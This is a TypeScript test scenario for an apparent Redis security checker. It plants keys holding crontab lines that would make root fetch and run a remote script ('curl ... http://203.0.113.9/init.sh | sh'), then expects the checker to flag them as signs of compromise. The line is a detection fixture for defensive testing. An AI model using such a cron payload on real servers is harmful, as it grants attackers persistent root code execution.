import { startServer } from '../../../testbed/index.ts';
import { scenario } from '../../harness/scenario.ts';

export default scenario({
  name: 'an attack has written keys whose values are crontab lines among the keys of the application',
  arrange: async (world) => {
    const server = await startServer(world);
    await server.call('DEBUG', 'POPULATE', '1000', 'session');
    for (const name of ['backup1', 'backup2']) await server.call('SET', name, '\n\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n');
    return {
      targets: [`redis://127.0.0.1:${server.port}`],
      expect: { root: 'security/compromise-signs', says: ['backup1', 'crontab', `127.0.0.1:${server.port}`], never: ['security/open-to-the-world'] },
      heal: () => server.call('DEL', 'backup1', 'backup2'),
    };
  },
});
